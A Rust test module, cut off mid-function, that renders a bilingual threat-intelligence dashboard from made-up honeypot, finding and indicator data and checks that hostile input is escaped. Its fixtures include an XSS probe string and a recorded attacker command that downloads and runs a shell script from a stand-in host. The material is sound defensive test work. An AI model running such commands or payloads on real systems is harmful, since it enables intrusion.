//! Pages drawn from made-up facts, in both languages, empty and full. The tests of this module look for what no page
//! may hold; with `LIANFANG_GALLERY=DIR` they also write every page there, to be looked at in a browser.

use std::fmt::Write as _;
use std::path::Path;

use access::{Person, PersonState};
use askama::Template;
use base::time::Zone;
use base::{
    AddressScope, CampaignId, DirectiveId, FindingId, IndicatorId, OrgId, PersonId, PointId, Realm, SensorId,
    SessionId, Timestamp, Tlp,
};
use detect::{Fact, Finding, FindingOutcome, FindingState, Group, Past, Step, StepKind, Subject, Why};
use edge::model::Applied;
use edge::service::views::{Difference, Enforcement, PointView, Status};
use edge::wire::{CanaryResult, Intent, Probe, ReadBack, Receipt, SetDigest};
use edge::{Directive, DirectiveState, Driver, Point, PointState, Standing, StoredReceipt};
use events::intel::IndicatorState;
use events::sensor::{Aim, AttackClass, Factor, ValueKind};
use intel::{Change, Dossier, Evidence, Indicator, ObjectVersion, Origin, Source, What};
use registry::{Contact as Contact2, Org, OrgKind, TreeNode};
use sensor::model::{
    Campaign, CampaignDetail, Contact, JoinKey, Observable, Sensor, SensorKind, SensorState, Session, SessionDetail,
    SessionEvent, TimelineBar, Totals,
};
use sensor::wire::Heartbeat;
use serde_json::json;
use store::audit::Leaf;
use text::{Lang, Words};
use uuid::Uuid;

use crate::desk;
use crate::desk::home::{Home, QueueLine};
use crate::desk::indicator::Story;
use crate::view::frame::{DoorPage, NavItem};
use crate::view::url::Query;
use crate::view::{Act, Body, Crumb, Field, Form, Frame, Head, Look, Page, Panel, Row};
use crate::web::list;

/// What an attacker might type, to see it escaped everywhere.
const HOSTILE: &str = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";

fn id(n: u128) -> Uuid {
    Uuid::from_u128(0x0199_aaaa_0000_7000_8000_0000_0000_0000 | n)
}

fn now() -> Timestamp {
    "2026-11-21T06:05:09Z".parse().unwrap()
}

fn ago(seconds: i64) -> Timestamp {
    now().plus_secs(-seconds)
}

fn look(lang: Lang, theme: &'static str, here: Query) -> Look {
    Look::new(Words::of(lang), Zone::default(), theme, now(), here).with_orgs(|org: OrgId| {
        Some(match org.0.as_u128() & 0xff {
            1 => ("國家資通安全聯防中心".into(), "National Joint Defence Centre".into()),
            2 => ("能源領域".into(), "Energy sector".into()),
            3 => ("東部電力公司".into(), "Eastern Power".into()),
            _ => ("北區水務局".into(), "Northern Water".into()),
        })
    })
}

fn org(n: u128) -> OrgId {
    OrgId(id(n))
}

fn frame(look: &Look, title: &str) -> Frame {
    let nav = &look.t.nav;
    let path = look.here.path.clone();
    let item = |href: &'static str, icon, label, gap| NavItem {
        href,
        icon,
        label,
        current: if href == "/" { path == "/" } else { path.starts_with(href) },
        count: None,
        gap,
    };
    Frame {
        t: look.t,
        theme: look.theme,
        title: title.to_owned(),
        centre: look.org_name(org(1)),
        demo: true,
        nav: vec![
            item("/", "home", nav.home, false),
            item("/attacks", "attack", nav.attacks, false),
            item("/findings", "finding", nav.findings, false),
            item("/indicators", "indicator", nav.indicators, true),
            item("/review", "review", nav.review, false),
            item("/points", "point", nav.points, false),
            item("/sensors", "sensor", nav.sensors, true),
            item("/orgs", "org", nav.orgs, false),
            item("/people", "people", nav.people, false),
            item("/audit", "audit", nav.audit, false),
        ],
        crumbs: Vec::new(),
        me: Some(("林值勤".into(), text::names::role(look.lang(), base::Role::DutyOfficer).into())),
        clock: look.when(now()),
        zone: look.zone.name().to_owned(),
        csrf: "0".repeat(64),
        q: String::new(),
        here: look.here.href(),
        toast: None,
        fragment: false,
        chart: path == "/attacks",
    }
}

/// One drawn page.
pub(crate) struct Drawn {
    pub(crate) name: String,
    pub(crate) html: String,
}

fn desk_page(look: &Look, crumbs: Vec<Crumb>, head: Head, rows: Vec<Row>) -> String {
    let f = Frame { crumbs, ..frame(look, &head.title) };
    Page { f, head, rows }.render().unwrap()
}

fn observable(n: u128, class: AttackClass, score: f64) -> Observable {
    Observable {
        kind: ValueKind::Ipv4,
        value: format!("203.0.113.{n}"),
        scope: AddressScope::Global,
        realm: Realm::Real,
        org: Some(org(3)),
        tlp: if n.is_multiple_of(3) { Tlp::Green } else { Tlp::Amber },
        class,
        score,
        factors: factors(),
        sessions: 7 * n as u64,
        sensors: 1 + n as u64 % 5,
        orgs: 2,
        aim: match n % 4 {
            0 => Aim::Noise,
            1 => Aim::Targeted,
            _ => Aim::Undecided,
        },
        aim_factors: vec![Factor { name: "names".into(), input: 2.0, part: 1.5 }],
        benign: None,
        campaign: Some(CampaignId(id(77))),
        first_at: ago(90_000 + n as i64 * 311),
        last_at: ago(n as i64 * 97),
    }
}

fn factors() -> Vec<Factor> {
    [("class", 0.7, 0.7), ("recency", 0.3, 0.12), ("sensors", 3.0, 0.08), ("organisations", 2.0, 0.05)]
        .map(|(name, input, part)| Factor { name: name.into(), input, part })
        .to_vec()
}

fn session(n: u128, class: AttackClass) -> Session {
    Session {
        id: SessionId(id(1_000 + n)),
        org: org(3),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        sensor: SensorId(id(50)),
        sensor_name: "誘捕-花蓮-01".into(),
        src_ip: format!("203.0.113.{n}"),
        scope: AddressScope::Global,
        protocol: "ssh".into(),
        dst_port: 22,
        opened_at: ago(600 + n as i64 * 60),
        last_at: ago(500 + n as i64 * 60),
        closed_at: n.is_multiple_of(2).then(|| ago(500 + n as i64 * 60)),
        class,
        events: 24,
        attempts: 12,
        commands: 3,
        client: Some("SSH-2.0-libssh2_1.10.0".into()),
        hassh: Some("ec7378c1a92f5a8dde7e8b7a1ddf33d1".into()),
        campaign: Some(CampaignId(id(77))),
    }
}

fn session_detail(hostile: bool) -> SessionDetail {
    let command = if hostile { HOSTILE } else { "cd /tmp; wget http://198.51.100.9/x.sh; chmod +x x.sh; ./x.sh" };
    let events = [
        ("conn.open", json!({"src_ip": "203.0.113.7", "src_port": 51_022})),
        (
            "proto.fingerprint",
            json!({"version": "SSH-2.0-libssh2_1.10.0", "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1"}),
        ),
        ("auth.attempt", json!({"user": "root", "password": "123456", "method": "password", "success": false})),
        ("auth.attempt", json!({"user": "root", "password": "admin", "method": "password", "success": false})),
        ("auth.attempt", json!({"user": "root", "password": "P@ssw0rd", "method": "password", "success": true})),
        ("cmd.input", json!({"line": "uname -a; id"})),
        ("cmd.input", json!({"line": command})),
        ("file.ref", json!({"url": "http://198.51.100.9/x.sh"})),
        ("conn.close", json!({"duration_ms": 41_200})),
    ];
    let events = events.into_iter().enumerate().map(|(i, (kind, body))| SessionEvent {
        n: i as u64 + 1,
        at: ago(600).plus_secs(4 * i as i64),
        kind: kind.into(),
        body: body.to_string(),
    });
    SessionDetail {
        session: session(7, AttackClass::Download),
        reason: sensor::classify::Reason {
            rule: "file".into(),
            facts: vec![
                ("files".into(), "0".into()),
                ("urls".into(), "1".into()),
                ("first".into(), "http://198.51.100.9/x.sh".into()),
            ],
        },
        foreign_key: "s-1".into(),
        users: vec!["root".into()],
        passwords: vec!["123456".into(), "admin".into(), if hostile { HOSTILE.into() } else { "P@ssw0rd".into() }],
        login: true,
        command_lines: vec![command.into()],
        urls: vec!["http://198.51.100.9/x.sh".into()],
        hashes: Vec::new(),
        exploits: Vec::new(),
        requests: Vec::new(),
        ssh_keys: Vec::new(),
        forwards: Vec::new(),
        events: events.collect(),
        more_events: false,
        kept: None,
    }
}

fn finding(n: u128, severity: u8, state: FindingState) -> Finding {
    let class = ["download", "command_execution", "credential_guessing", "scan"][n as usize % 4];
    Finding {
        id: FindingId(id(2_000 + n)),
        org: org(3 + n % 2),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        scope: AddressScope::Global,
        rule: format!("sensor.{class}"),
        severity,
        subject: Subject { kind: "ipv4".into(), value: format!("203.0.113.{n}") },
        params: json!({}),
        why: Why {
            facts: [("class", class), ("sessions", "14"), ("sensors", "3")]
                .map(|(name, value)| Fact { name: name.into(), value: value.into() })
                .to_vec(),
            factors: factors(),
            score: Some(0.87),
            sessions: (0..3).map(|i| SessionId(id(1_000 + i))).collect(),
        },
        count: 3 * n as u64 + 1,
        first_at: ago(7_200 + n as i64 * 60),
        last_at: ago(60 * n as i64),
        state,
        owner: (state == FindingState::Taken).then(|| PersonId(id(9))),
        outcome: (state == FindingState::Resolved).then_some(FindingOutcome::TruePositive),
        reason: (state == FindingState::Resolved).then(|| HOSTILE.to_owned()),
        silence: None,
        campaign: Some(CampaignId(id(77))),
        trail: vec![Step {
            at: ago(300),
            by: Some(PersonId(id(9))),
            kind: StepKind::Taken,
            from: FindingState::New,
            from_owner: None,
            outcome: None,
            reason: None,
            undone: false,
        }],
        version: 2,
    }
}

fn bars() -> Vec<TimelineBar> {
    let mut bars = Vec::new();
    for hour in 0..24_i64 {
        for (i, class) in AttackClass::ALL.into_iter().enumerate() {
            let n = (hour * 7 + i as i64 * 13) % 17;
            if i % 3 != 0 && n > 3 {
                let at = Timestamp::EPOCH.plus_secs((ago(hour * 3_600).as_secs() / 3_600) * 3_600);
                bars.push(TimelineBar { at, class, sessions: (n * (i as i64 + 1)) as u64, events: 50 });
            }
        }
    }
    bars
}

fn attacks(look: &Look, full: bool) -> Vec<Row> {
    let classes =
        [AttackClass::Download, AttackClass::CommandExecution, AttackClass::CredentialSpray, AttackClass::Scan];
    let rows = if full {
        (1..30).map(|n| observable(n, classes[n as usize % 4], 0.97 - n as f64 * 0.03)).collect()
    } else {
        Vec::new()
    };
    let loaded = list::Loaded::of(rows, full.then(|| "next".to_owned()));
    let bars = if full { bars() } else { Vec::new() };
    desk::attack::draw(look, &bars, &loaded)
}

fn queue(look: &Look, full: bool) -> Row {
    let rows: Vec<Finding> = if full {
        (0..14)
            .map(|n| finding(n, 4 - (n % 4) as u8, if n % 5 == 2 { FindingState::Taken } else { FindingState::New }))
            .collect()
    } else {
        Vec::new()
    };
    let chosen = rows.first().cloned();
    let groups: Vec<Group> = if full {
        [
            ("sensor.download", 4, 4),
            ("sensor.command_execution", 5, 3),
            ("sensor.credential_guessing", 3, 2),
            ("edge.drift", 2, 3),
        ]
        .map(|(rule, open, severity)| Group {
            rule: rule.into(),
            org: org(3),
            open,
            new: open,
            severity,
            oldest: ago(7_000),
            latest: ago(60),
        })
        .to_vec()
    } else {
        Vec::new()
    };
    let loaded = list::Loaded::of(rows, None);
    let past = Past { times: 2, last_outcome: Some(FindingOutcome::TruePositive), last_at: Some(ago(86_400)) };
    let desk = desk::finding::Desk {
        loaded: &loaded,
        groups: &groups,
        chosen: chosen.as_ref(),
        past,
        owner: None,
        token: "t",
        acts: true,
    };
    desk::finding::draw_queue(look, &desk)
}

fn campaign() -> (CampaignDetail, Vec<Session>) {
    let detail = CampaignDetail {
        campaign: Campaign {
            id: CampaignId(id(0x77)),
            realm: Realm::Real,
            org: Some(org(3)),
            tlp: Tlp::Amber,
            sessions: 214,
            sources: 31,
            sensors: 3,
            orgs: 2,
            class: AttackClass::Download,
            joined_by: Some("credentials".into()),
            targeted: 4.2,
            aim: Aim::Targeted,
            aim_factors: vec![Factor { name: "focus".into(), input: 6.6, part: 1.1 }],
            first_at: ago(86_400),
            last_at: ago(120),
        },
        keys: vec![
            JoinKey { kind: "credentials".into(), label: "root/123456 +11".into(), sessions: 180 },
            JoinKey { kind: "commands".into(), label: HOSTILE.into(), sessions: 44 },
        ],
        contacts: (1..6)
            .map(|n| Contact {
                src_ip: format!("203.0.113.{n}"),
                sensor: SensorId(id(50)),
                org: org(3),
                sessions: 40 - n as u64,
                first_at: ago(80_000),
                last_at: ago(n * 60),
            })
            .collect(),
    };
    (detail, (1..8).map(|n| session(n, AttackClass::Download)).collect())
}

fn indicator(state: IndicatorState, class: Option<AttackClass>) -> Indicator {
    Indicator {
        id: IndicatorId(id(3_000)),
        org: org(1),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        scope: AddressScope::Global,
        kind: ValueKind::Ipv4,
        value: "203.0.113.7".into(),
        name: HOSTILE.into(),
        description: HOSTILE.into(),
        state,
        class,
        score: 0.91,
        factors: factors(),
        confidence: 91,
        origin: if class.is_some() { Origin::Sensors } else { Origin::Person },
        author: None,
        reviewer: None,
        approver: None,
        automatic: class.is_some(),
        night: false,
        campaign: Some(CampaignId(id(0x77))),
        lasts: 86_400,
        valid_from: ago(3_000),
        valid_until: now().plus_secs(83_400),
        created: ago(3_100),
        modified: ago(3_000),
        published_at: Some(ago(3_000)),
        reason: None,
        sessions_total: 14,
        sensors_total: 3,
        version: 2,
    }
}

fn story(state: IndicatorState, full: bool) -> Story {
    let indicator = indicator(state, full.then_some(AttackClass::Download));
    let evidence = Evidence {
        org: org(3),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        scope: AddressScope::Global,
        kind: ValueKind::Ipv4,
        value: indicator.value.clone(),
        class: AttackClass::Download,
        score: 0.91,
        factors: factors(),
        sessions_total: 14,
        sessions: Vec::new(),
        sensors_total: 3,
        campaign: None,
        first_at: ago(9_000),
        last_at: ago(3_100),
    };
    let proposed = What::Proposed { id: indicator.id, evidence: Box::new(evidence), lasts: 86_400 };
    let published = What::Published { automatic: true, night: false, lasts: 86_400 };
    let change = |seconds, what| Change { at: ago(seconds), by: None, what };
    let mut history = vec![change(3_100, proposed), change(3_000, published)];
    if state == IndicatorState::Revoked {
        history.push(Change {
            at: ago(100),
            by: Some(PersonId(id(9))),
            what: What::Revoked { reason: HOSTILE.into() },
        });
    }
    let enforcement = ["邊界防火牆-01", "清單輸出-02"].into_iter().enumerate().map(|(i, name)| Enforcement {
        point: PointId(id(60 + i as u128)),
        name: name.into(),
        driver: if i == 0 { Driver::Nft } else { Driver::File },
        desired: true,
        needed_sequence: Some(41),
        applied_sequence: 42,
        enforced: true,
        read_back: true,
        probed: i == 0,
        since: Some(ago(2_990)),
        since_exact: true,
        status: if i == 0 { Status::Proved } else { Status::ReadBack },
    });
    let bytes = format!("{{\"type\":\"indicator\",\"name\":{}}}", json!(HOSTILE)).into_bytes();
    Story {
        enforcement: if full { enforcement.collect() } else { Vec::new() },
        author: (!full).then(|| "陳情資".into()),
        reviewer: None,
        approver: None,
        who: vec![None, None, Some("林值勤".into())],
        dossier: Dossier {
            indicator,
            history,
            versions: vec![ObjectVersion { version: 1, modified: ago(3_000), sha256: "ab".repeat(32), bytes }],
            sources: if full {
                (0..4).map(|n| Source { session: SessionId(id(1_000 + n)), at: ago(3_100) }).collect()
            } else {
                Vec::new()
            },
            notes: Vec::new(),
        },
    }
}

fn receipt(sequence: u64) -> Receipt {
    Receipt {
        point: PointId(id(60)),
        sequence,
        generation: sequence,
        driver: "nft".into(),
        applied_at: ago(2_990),
        took_us: 12_400,
        elements: 37,
        digest: SetDigest::default(),
        config_revision: 1,
        read_back: ReadBack { changed: 1, sampled: 20, wrong: Vec::new() },
        probe: Probe::Probed {
            blocked: vec![CanaryResult { address: "198.51.100.1".parse().unwrap(), ok: true, took_us: 900 }],
            passed: vec![CanaryResult { address: "198.51.100.2".parse().unwrap(), ok: true, took_us: 900 }],
        },
        drift: None,
        refused: Vec::new(),
        refused_total: 0,
        frozen: None,
        kill: false,
    }
}

fn point(n: u128, status: Status) -> PointView {
    let standing = if status == Status::Trouble { Standing::Drifted } else { Standing::Proved };
    PointView {
        point: Point {
            id: PointId(id(60 + n)),
            org: org(3),
            realm: Realm::Real,
            tlp: Tlp::Green,
            name: format!("邊界防火牆-0{n}"),
            driver: Driver::Nft,
            state: PointState::Enrolled,
            serial: "0a".into(),
            cert_expires: now().plus_secs(86_400 * 300),
            enrolled_at: ago(86_400 * 9),
            kill: false,
            thaw_until: None,
            revision: 1,
            last: Some(Applied { receipt: receipt(42), at: ago(4), expected: None, since: ago(2_990), standing }),
            version: 3,
        },
        status,
        since: Some(ago(2_990)),
        seen_at: Some(ago(4)),
        clock_offset_us: Some(1_200),
        heartbeat: None,
        desired_sequence: 42,
        desired_entries: 37,
        differs: if status == Status::Trouble {
            vec![Difference::Drift { missing: 2, extra: 0, repaired: false }]
        } else {
            Vec::new()
        },
    }
}

fn directive(n: u128) -> Directive {
    Directive {
        id: DirectiveId(id(4_000 + n)),
        org: org(1),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        scope: AddressScope::Global,
        key: format!("203.0.113.{n}").parse().unwrap(),
        intent: Intent::Deny,
        impact: edge::model::Impact::Low,
        state: DirectiveState::Active,
        author: None,
        approver: None,
        indicator: Some(IndicatorId(id(3_000))),
        provenance: json!({}),
        reason: HOSTILE.into(),
        verdicts: Vec::new(),
        issued: ago(2_995),
        expires: now().plus_secs(83_400),
        ended: None,
        end_reason: None,
        version: 1,
    }
}

fn sensor(n: u128, state: SensorState) -> Sensor {
    let names = ["誘捕-花蓮-01", "誘捕-臺東-02", "誘捕-宜蘭-03", "誘捕-新竹-04"];
    Sensor {
        id: SensorId(id(50 + n)),
        org: org(3),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        name: names[n as usize % 4].into(),
        kind: SensorKind::Native,
        state,
        enrolled_at: ago(86_400 * 12),
        last_heard: Some(ago(12)),
        last_event: Some(ago(44)),
        silent_since: (state == SensorState::Silent).then(|| ago(4_000)),
        rate: 0.4,
        clock_offset: Some(2_000),
        health: Some(Heartbeat {
            version: "0.1.0".into(),
            spool_depth: 3,
            sessions_open: 2,
            probes: vec![sensor::wire::Probe {
                listener: "ssh:22".into(),
                ok: true,
                banner_sha256: String::new(),
                took_ms: 3,
            }],
            ..Heartbeat::default()
        }),
        cert_serial: Some("0a".into()),
        cert_expires: Some(now().plus_secs(86_400 * 300)),
        version: 1,
    }
}

fn organisation(n: u128, parent: Option<u128>, kind: OrgKind, zh: &str, en: &str) -> Org {
    Org {
        id: org(n),
        code: format!("org-{n}").parse().unwrap(),
        name_zh: zh.into(),
        name_en: en.into(),
        parent: parent.map(org),
        standing: registry::Standing {
            kind,
            sector: Some("energy".into()),
            criticality: if n == 3 { registry::Criticality::Critical } else { registry::Criticality::None },
            level: Some(registry::Level::A),
        },
        own: n == 1,
        from: ago(86_400 * 400),
        to: None,
        version: 1,
    }
}

fn tree() -> Vec<TreeNode> {
    let node = |depth, org| TreeNode { depth, org };
    vec![
        node(0, organisation(1, None, OrgKind::Centre, "國家資通安全聯防中心", "National Joint Defence Centre")),
        node(1, organisation(2, Some(1), OrgKind::Sector, "能源領域", "Energy sector")),
        node(2, organisation(3, Some(2), OrgKind::Operator, "東部電力公司", "Eastern Power")),
        node(1, organisation(4, Some(1), OrgKind::Operator, "北區水務局", "Northern Water")),
    ]
}

fn org_dossier() -> desk::org::Dossier {
    let network = |n: u128, net: &str| registry::Network {
        id: registry::NetworkId(id(5_000 + n)),
        org: org(3),
        net: net.parse().unwrap(),
        scope: AddressScope::Global,
        from: ago(86_400 * 90),
        to: None,
        version: 1,
    };
    desk::org::Dossier {
        org: organisation(3, Some(2), OrgKind::Operator, "東部電力公司", "Eastern Power"),
        networks: vec![network(1, "192.0.2.0/25"), network(2, "2001:db8:3::/48")],
        domains: vec![registry::Domain {
            id: registry::DomainId(id(5_100)),
            org: org(3),
            name: "eastpower.example".parse().unwrap(),
            from: ago(86_400 * 90),
            to: None,
            version: 1,
        }],
        asns: Vec::new(),
        circuits: Vec::new(),
        contacts: vec![Contact2 {
            id: registry::ContactId(id(5_200)),
            org: org(3),
            name: "王小明科長".into(),
            role: "security".into(),
            mail: "soc@eastpower.example".into(),
            telephone: "(02)2380-0000".into(),
            from: ago(86_400 * 90),
            to: None,
            version: 1,
        }],
        below: Vec::new(),
    }
}

fn person(n: u128, state: PersonState) -> Person {
    Person {
        id: PersonId(id(9 + n)),
        login: format!("lin.{n}"),
        display: "林值勤".into(),
        mail: String::new(),
        language: "zh-TW".into(),
        zone: "Asia/Taipei".into(),
        org: org(1),
        state,
        expires_at: None,
        created_at: ago(86_400 * 50),
        last_sign_in: Some(ago(900)),
        second_factor: n == 0,
        holdings: vec![access::Holding {
            id: access::HoldingId(id(7_000 + n)),
            what: access::NewHolding::of(base::Role::DutyOfficer, org(1)),
        }],
        version: 1,
    }
}

fn login() -> access::login::Login {
    access::login::Login {
        id: access::LoginId(id(8_000)),
        person: PersonId(id(9)),
        created_at: ago(4_000),
        last_seen: ago(60),
        ends_at: now().plus_secs(30_000),
        address: "192.0.2.10".into(),
        agent: HOSTILE.into(),
        second_factor_at: Some(ago(3_990)),
    }
}

fn leaf(n: u64) -> Leaf {
    Leaf {
        seq: 1_204 - n,
        at: ago(n as i64 * 70),
        org: org(1),
        realm: Realm::Real,
        tlp: Tlp::Amber,
        actor: ["person:0199aaaa-0000-7000-8000-000000000009", "system:intel", "stranger"][n as usize % 3].into(),
        action: ["intel.publish", "edge.issue", "access.sign_in"][n as usize % 3].into(),
        subject: "indicator:0199aaaa-0000-7000-8000-000000000bb8".into(),
        outcome: ["done", "done", "refused"][n as usize % 3].into(),
        entry: "{}".into(),
    }
}

fn home(look: &Look, full: bool) -> Home {
    let t = look.t;
    let line = |name, oldest: Option<(&str, i64)>, waiting: &str, href| QueueLine {
        name,
        oldest: oldest.filter(|_| full).map(|(words, age)| (words.to_owned(), "/findings/1".to_owned(), ago(age))),
        waiting: if full { waiting.to_owned() } else { "0".to_owned() },
        href,
    };
    let f = desk::finding::sentence(look, &finding(0, 4, FindingState::New));
    let g = desk::finding::sentence(look, &finding(1, 3, FindingState::Taken));
    Home {
        queues: vec![
            line(t.duty.q_findings, Some((&f, 2_760)), "12", "/findings"),
            line(t.duty.q_mine, Some((&g, 900)), "2", "/findings?state=mine"),
            line(t.duty.q_review, Some(("203.0.113.44", 5_400)), "3", "/review"),
            line(t.edge.held, None, "0", "/points"),
        ],
        silent: Some(if full {
            vec![sensor(1, SensorState::Silent), sensor(2, SensorState::Missing)]
        } else {
            Vec::new()
        }),
        sensors: if full { 9 } else { 0 },
        manages_sensors: true,
        drift: Some(if full { vec![point(1, Status::Trouble)] } else { Vec::new() }),
        points: if full { 3 } else { 0 },
        blocks: Some(if full { (1..5).map(directive).collect() } else { Vec::new() }),
        sources: Some(if full {
            (1..6).map(|n| observable(n, AttackClass::Download, 0.9 - n as f64 / 10.0)).collect()
        } else {
            Vec::new()
        }),
        totals: Some(Totals {
            sessions_day: if full { 8_012 } else { 0 },
            sources_day: if full { 341 } else { 0 },
            ..Totals::default()
        }),
        published: Some(if full { 37 } else { 0 }),
        member: false,
    }
}

/// The forms of a page as its handler would make them, for drawing.
fn form(look: &Look, id: &str, fields: Vec<Field>) -> Form {
    Form {
        t: look.t,
        id: id.into(),
        action: "/x".into(),
        csrf: "t".into(),
        fields,
        submit: look.t.frame.save.into(),
        style: "primary",
        across: false,
        key: "",
    }
}

fn list_page<R>(look: &Look, spec: &list::Spec<R>, title: &str, rows: Vec<R>) -> String {
    let loaded = list::Loaded::of(rows, None);
    let table = list::table(look, spec, &loaded, vec![list::tab(look, "state", "", look.t.list.all)]);
    let panel = Panel::new("list", title, vec![Body::Table(Box::new(table))]);
    desk_page(look, Vec::new(), Head::new(title, ""), vec![Row::Full(panel)])
}

/// The rooms of intelligence, enforcement and administration.
fn more(lang: Lang, theme: &'static str, out: &mut Vec<Drawn>) {
    let t = Words::of(lang);
    let mut add = |name: &str, html: String| out.push(Drawn { name: name.to_owned(), html });
    let at = |path: &str| look(lang, theme, Query::at(path));
    for full in [true, false] {
        let tail = if full { "" } else { "-empty" };
        let l = at("/");
        add(
            &format!("home{tail}"),
            desk_page(&l, Vec::new(), Head::new(t.duty.title, ""), desk::home::draw(&l, &home(&l, full))),
        );
        let l = at("/indicators");
        let rows = if full {
            vec![
                indicator(IndicatorState::Published, Some(AttackClass::Download)),
                indicator(IndicatorState::Draft, None),
            ]
        } else {
            Vec::new()
        };
        add(&format!("indicators{tail}"), list_page(&l, &desk::indicator::INDICATORS, t.intel.title, rows));
        let l = at("/sensors");
        let rows = if full {
            SensorState::ALL.into_iter().enumerate().map(|(n, state)| sensor(n as u128, state)).collect()
        } else {
            Vec::new()
        };
        add(&format!("sensors{tail}"), list_page(&l, &desk::sensor::SENSORS, t.sensors.title, rows));
        let l = at("/points");
        let views = if full {
            vec![point(1, Status::Proved), point(2, Status::Trouble), point(3, Status::Silent)]
        } else {
            Vec::new()
        };
        let loaded = list::Loaded::of(views, None);
        let table = list::table(&l, &desk::point::POINTS, &loaded, Vec::new());
        let active: Vec<Directive> = if full { (1..6).map(directive).collect() } else { Vec::new() };
        let held = if full { vec![directive(9)] } else { Vec::new() };
        let rows = desk::point::draw_all(&l, table, Vec::new(), full, &active, &held, Some("t"));
        add(&format!("points{tail}"), desk_page(&l, Vec::new(), Head::new(t.edge.title, ""), rows));
        let l = at("/orgs");
        let rows = desk::org::draw_all(&l, &if full { tree() } else { Vec::new() }, Vec::new());
        add(&format!("orgs{tail}"), desk_page(&l, Vec::new(), Head::new(t.orgs.title, ""), rows));
        let l = at("/audit");
        add(
            &format!("audit{tail}"),
            list_page(
                &l,
                &desk::audit::LEAVES,
                t.audit.title,
                if full { (0..12).map(leaf).collect() } else { Vec::new() },
            ),
        );
    }
    let l = at("/indicators/1");
    for (name, state, full) in [
        ("indicator", IndicatorState::Published, true),
        ("indicator-revoked", IndicatorState::Revoked, true),
        ("indicator-empty", IndicatorState::Draft, false),
    ] {
        let acts = vec![Act::ask(
            t.intel.revoke,
            t.intel.revoke_lead,
            "",
            form(&l, "revoke", vec![Field::area("reason", t.frame.reason)]),
        )];
        let (head, rows) = desk::indicator::draw(&l, &story(state, full), acts);
        add(name, desk_page(&l, vec![Crumb::new("/indicators", t.nav.indicators)], head, rows));
    }
    let l = at("/points/1");
    let receipts =
        vec![StoredReceipt { id: base::EventId(id(1)), at: ago(4), standing: Standing::Proved, receipt: receipt(42) }];
    let (head, rows) = desk::point::draw(&l, &point(1, Status::Trouble), &receipts, Vec::new());
    add("point", desk_page(&l, vec![Crumb::new("/points", t.nav.points)], head, rows));
    let l = at("/sensors/1");
    let (head, rows) =
        desk::sensor::draw(&l, &sensor(0, SensorState::Silent), &[session(1, AttackClass::Scan)], Vec::new());
    add("sensor", desk_page(&l, vec![Crumb::new("/sensors", t.nav.sensors)], head, rows));
    let l = at("/orgs/3");
    let (head, rows) = desk::org::draw(&l, &org_dossier(), Vec::new(), Some("t"), Some("t"));
    add("org", desk_page(&l, vec![Crumb::new("/orgs", t.nav.orgs)], head, rows));
    let l = at("/people");
    add(
        "people",
        list_page(
            &l,
            &desk::people::PEOPLE,
            t.people.title,
            vec![person(0, PersonState::Active), person(1, PersonState::Invited)],
        ),
    );
    let (head, rows) = desk::people::draw(&l, &person(0, PersonState::Active), &[login()], Vec::new());
    add("person", desk_page(&l, vec![Crumb::new("/people", t.nav.people)], head, rows));
    let found = desk::search::Found {
        kind: Some(ValueKind::Ipv4),
        value: "203.0.113.7".into(),
        observable: Some(observable(7, AttackClass::Download, 0.91)),
        indicators: vec![indicator(IndicatorState::Published, Some(AttackClass::Download))],
        findings: vec![finding(0, 4, FindingState::New)],
        sessions: vec![session(7, AttackClass::Download)],
        owner: None,
        orgs: Vec::new(),
    };
    let l = look(lang, theme, Query::at("/search").with("q", "203.0.113.7"));
    add("search", desk_page(&l, Vec::new(), Head::new("203.0.113.7", "").value(), desk::search::draw(&l, &found)));
    let l = at("/errors");
    let codes: Vec<&base::Code> = crate::ALL_CODES.iter().flat_map(|module| module.iter()).copied().collect();
    add(
        "errors",
        desk_page(
            &l,
            Vec::new(),
            Head::new(t.frame.error_all, ""),
            vec![Row::Full(desk::help::draw_errors(&l, &codes))],
        ),
    );
    let l = at("/sign-in");
    let fields = vec![
        Field::typed("login", t.door.login, "text", "username"),
        Field::typed("password", t.door.password, "password", "current-password").wrong(t.door.password_differs),
    ];
    let body = vec![Body::Form(form(&l, "door", fields)), Body::Text(t.door.lost.into())];
    add("sign-in", door(&l, Head::new(t.door.sign_in, t.door.sign_in_lead), None, body));
    let body = vec![
        crate::door::second::qr("otpauth://totp/Lianfang:lin?secret=JBSWY3DPEHPK3PXP&issuer=Lianfang", t.door.totp_qr)
            .unwrap_or(Body::Codes(Vec::new())),
        Body::Form(form(
            &l,
            "door",
            vec![Field::typed("code", t.door.code, "text", "one-time-code").hint(t.door.second_lead)],
        )),
    ];
    add("second-factor", door(&l, Head::new(t.door.second, ""), Some((5, 2)), body));
    let body = vec![
        Body::Note { tone: "warn", text: t.door.recovery_keep.into() },
        Body::Codes((0..10).map(|n| format!("7K3P-{n}XQA")).collect()),
        Body::Command {
            t,
            text: "lianfang sensor enrol --url https://127.0.0.1:8443 --ca ca.pem --code ABCDE-FGHIJ".into(),
        },
    ];
    add("recovery", door(&l, Head::new(t.door.recovery_new, ""), None, body));
}

/// Every page in one language and theme.
pub(crate) fn pages(lang: Lang, theme: &'static str) -> Vec<Drawn> {
    let t = Words::of(lang);
    let mut out = Vec::new();
    let mut add = |name: &str, html: String| out.push(Drawn { name: name.to_owned(), html });
    let at = |path: &str| look(lang, theme, Query::at(path));
    for full in [true, false] {
        let tail = if full { "" } else { "-empty" };
        let l = at("/attacks");
        add(&format!("attacks{tail}"), desk_page(&l, Vec::new(), Head::new(t.attack.title, ""), attacks(&l, full)));
        let l = at("/findings");
        let head = Head::new(t.work.title, t.work.lead);
        add(&format!("findings{tail}"), desk_page(&l, Vec::new(), head, vec![queue(&l, full)]));
    }
    let l = at("/sessions/1");
    for hostile in [false, true] {
        let (head, rows) = desk::session::draw(&l, &session_detail(hostile));
        let crumbs = vec![Crumb::new("/attacks", t.nav.attacks), Crumb::new("/sessions", t.nav.sessions)];
        add(if hostile { "session-hostile" } else { "session" }, desk_page(&l, crumbs, head, rows));
    }
    let (detail, sessions) = campaign();
    let (head, rows) = desk::campaign::draw(&at("/campaigns/1"), &detail, &sessions);
